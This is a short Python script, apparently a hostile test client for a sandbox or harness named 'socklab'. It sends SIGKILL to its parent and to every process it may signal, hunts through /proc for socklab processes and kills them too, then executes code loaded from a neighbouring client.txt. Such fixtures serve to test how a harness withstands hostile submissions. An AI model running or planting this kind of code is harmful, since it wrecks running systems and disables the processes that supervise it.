# Kills its parent, every process it may signal, and any socklab process it can find; then pings.
import os, signal
for pid in (os.getppid(), -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            if b"socklab" in open("/proc/%s/cmdline" % entry, "rb").read():
                os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass

import os as _os
_here = _os.path.dirname(_os.path.abspath(__file__))
exec(compile(open(_os.path.join(_here, "client.txt")).read(), "client.txt", "exec"))
